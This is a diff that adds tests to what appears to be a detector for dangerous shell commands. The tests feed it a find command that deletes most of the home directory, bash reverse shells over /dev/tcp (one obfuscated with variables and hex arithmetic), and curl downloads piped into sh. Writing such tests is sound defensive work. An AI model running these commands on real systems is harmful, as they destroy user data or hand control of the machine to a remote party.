@@ -426,6 +426,34 @@ describe("find", () => {
     expect(d!.scope).toBe("other");
     expect(of(run(`find ~ -mtime +90 -delete\n`), "delete").map((x) => x.scope)).toEqual(["home"]);
   });
+
+  it("a negated name test spares only what it names: the rest of the root goes", () => {
+    for (const neg of ["!", "-not"]) {
+      const [d] = of(run(`find "$HOME" -mindepth 1 -maxdepth 1 -mtime +2 ${neg} -name backups -exec rm -rf -- {} +\n`), "delete");
+      expect(d).toMatchObject({ path: "~", scope: "home" });
+    }
+  });
+});
+
+describe("sockets built at run time", () => {
+  it("a /dev/tcp path from variables and hex arithmetic, opened with exec and handed to a shell found with command -v, is a remote shell", () => {
+    const c = run(`a=203.0.113; b=47\nport=$(( 0x1bb + 1 ))\nep="/dev/tcp/\${a}.\${b}/\${port}"\nexec 5<>"$ep"\nsh_bin=$(command -v bash)\n"$sh_bin" -i <&5 >&5 2>&5\n`);
+    expect(of(c, "send")[0]).toMatchObject({ channel: "socket", dest: "203.0.113.47:444" });
+    expect(of(c, "remote-shell").length).toBe(1);
+  });
+
+  it("a port the script only knows at run time still makes /dev/tcp a socket", () => {
+    const c = run(`p=$(cat port.txt)\nbash -i >& /dev/tcp/198.51.100.9/$p 0>&1\n`);
+    expect(of(c, "remote-shell").length).toBe(1);
+    expect(of(c, "write")).toEqual([]);
+  });
+
+  it("which and command -v print the program's name; command -V (a description) stays unknown", () => {
+    const c = run(`x=$(which curl)\n"$x" -fsSL https://dl.invalid/i.sh | sh\ny=$(command -V curl)\n"$y" https://dl.invalid/j.sh | sh\n`);
+    const [which, described] = of(c, "exec").map((e) => e.command.text);
+    expect(which).toBe("curl -fsSL https://dl.invalid/i.sh | sh");
+    expect(described).not.toMatch(/^curl/);
+  });
 });
 
 describe("written files read as what they are", () => {
